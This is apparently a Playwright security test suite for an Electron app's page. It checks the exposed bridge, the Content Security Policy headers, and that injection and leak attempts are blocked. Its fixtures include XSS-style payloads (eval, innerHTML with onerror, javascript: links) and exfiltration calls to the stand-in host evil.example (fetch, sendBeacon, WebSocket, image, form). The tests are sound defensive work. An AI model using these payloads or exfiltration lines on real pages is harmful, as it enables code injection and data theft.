import type { Page } from '@playwright/test';
import { expect, test } from './desktop.ts';
import { pageOrigin } from './page-window.ts';

/**
 * Does something in the page, in a task of the page's own (what the debugger calls is exempt from the policy), and
 * collects the directives that it broke.
 */
async function directivesBrokenBy(page: Page, script: string): Promise<readonly string[]> {
  await page.evaluate(`globalThis.attempt = async () => { ${script} }`);
  return page.evaluate(async () => {
    const broken: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => broken.push(event.effectiveDirective));
    const attempt: () => Promise<void> = Reflect.get(window, 'attempt');
    // Something that the policy forbids may also throw.
    setTimeout(() => void attempt().catch(() => {}), 0);
    await new Promise((resolve) => setTimeout(resolve, 200));
    return broken;
  });
}

test('the page has one function of its host, and nothing of Node or Electron', async ({
  desktop: { page },
}) => {
  const bridge = await page.evaluate(() => {
    const exposed = window.gatehouse ?? { connect: null };
    return [Object.keys(exposed), typeof exposed.connect, Object.isFrozen(exposed)];
  });
  expect(bridge).toEqual([['connect'], 'function', true]);
  const ofNode = ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname'];
  const names = [...ofNode, 'electron', 'ipcRenderer', 'contextBridge'];
  expect(await page.evaluate((all) => all.filter((name) => name in window), names)).toEqual([]);
});

test('the page asks for its two ports and is given those alone', async ({ desktop: { page, host } }) => {
  const given = await page.evaluate(async () => {
    const { promise, resolve } = Promise.withResolvers<unknown>();
    window.addEventListener('message', ({ data, ports, origin }) => resolve([data, ports.length, origin]));
    return [typeof window.gatehouse?.connect(), await promise];
  });
  expect(given).toEqual(['undefined', ['gatehouse:port', 2, pageOrigin]]);
  expect(host.log()).toBe('');
});

test('the page is served under the policy', async ({ desktop: { page } }) => {
  const headers = await page.evaluate(async () => {
    const { headers: received } = await fetch('/');
    return [received.get('content-security-policy'), received.get('x-content-type-options')];
  });
  expect(headers).toEqual([expect.stringMatching(/^default-src 'none'; script-src 'self'; /), 'nosniff']);
});

const create = (name: string, members: string) =>
  `document.body.append(Object.assign(document.createElement('${name}'), ${members}));`;

const injections = [
  {
    what: 'an inline script',
    broken: 'require-trusted-types-for',
    script: `const script = document.createElement('script');
             script.append('window.ran = true');
             document.body.append(script);`,
  },
  {
    what: 'an inline script in a document parsed from text',
    broken: 'require-trusted-types-for',
    script: `document.write('<script>window.ran = true</script>');`,
  },
  {
    what: 'an inline handler of an event',
    broken: 'require-trusted-types-for',
    script: `const image = document.createElement('img');
             image.setAttribute('onclick', 'window.ran = true');
             image.click();`,
  },
  {
    what: 'a script of another origin',
    broken: 'require-trusted-types-for',
    script: create('script', `{ src: 'https://evil.example/x.js' }`),
  },
  {
    what: 'a module of another origin',
    broken: 'script-src-elem',
    script: `await import('https://evil.example/x.js');`,
  },
  { what: 'text', broken: 'require-trusted-types-for', script: `(0, eval)('window.ran = true');` },
  {
    what: 'a function made from text',
    broken: 'require-trusted-types-for',
    script: `new Function('window.ran = true')();`,
  },
  {
    what: 'markup made from text',
    broken: 'require-trusted-types-for',
    script: `document.body.innerHTML = '<img src=x onerror="window.ran = true">';`,
  },
  {
    what: 'an address of a link that is a script',
    broken: 'script-src-elem',
    script: `Object.assign(document.createElement('a'), { href: 'javascript:window.ran = true' }).click();`,
  },
  {
    what: 'a frame with a document of its own',
    broken: 'frame-src',
    script: create('iframe', `{ src: 'data:text/html,<script>parent.ran = true</script>' }`),
  },
  {
    what: 'a worker made from text',
    broken: 'require-trusted-types-for',
    script: `new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));`,
  },
  {
    what: 'anything by a policy of its own for trusted texts',
    broken: 'trusted-types',
    script: `const policy = trustedTypes.createPolicy('own', { createHTML: (text) => text });
             document.body.innerHTML = policy.createHTML('<img src=x onerror="window.ran = true">');`,
  },
] as const;

test('the page runs nothing but what was built', async ({ desktop: { page, strayRequests } }) => {
  for (const { what, broken, script } of injections) {
    await test.step(what, async () => {
      expect(await directivesBrokenBy(page, script)).toContain(broken);
      expect(await page.evaluate(() => 'ran' in window)).toBe(false);
      expect(strayRequests).toEqual([]);
    });
  }
});

const leaks = [
  { way: 'a call', broken: 'connect-src', script: `await fetch('https://evil.example/?stolen');` },
  { way: 'a beacon', broken: 'connect-src', script: `navigator.sendBeacon('https://evil.example/', 'x');` },
  { way: 'a socket', broken: 'connect-src', script: `new WebSocket('wss://evil.example/');` },
  { way: 'a call to a local service', broken: 'connect-src', script: `await fetch('http://127.0.0.1:9/');` },
  { way: 'a picture', broken: 'img-src', script: `new Image().src = 'https://evil.example/?stolen';` },
  { way: 'a frame', broken: 'frame-src', script: create('iframe', `{ src: 'https://evil.example/' }`) },
  {
    way: 'a style sheet',
    broken: 'style-src-elem',
    script: create('link', `{ rel: 'stylesheet', href: 'https://evil.example/x.css' }`),
  },
  {
    way: 'a form',
    broken: 'form-action',
    script: `${create('form', `{ id: 'leak', action: 'https://evil.example/', method: 'post' }`)}
             document.getElementById('leak').submit();`,
  },
  {
    way: 'another base of its addresses',
    broken: 'base-uri',
    script: create('base', `{ href: 'https://evil.example/' }`),
  },
] as const;

test('the page sends nothing out', async ({ desktop: { page, strayRequests } }) => {
  await expect(page).toHaveURL(/#\/home$/);
  const address = page.url();
  for (const { way, broken, script } of leaks) {
    await test.step(way, async () => {
      expect(await directivesBrokenBy(page, script)).toContain(broken);
      expect(strayRequests).toEqual([]);
      expect(page.url()).toBe(address);
    });
  }
});
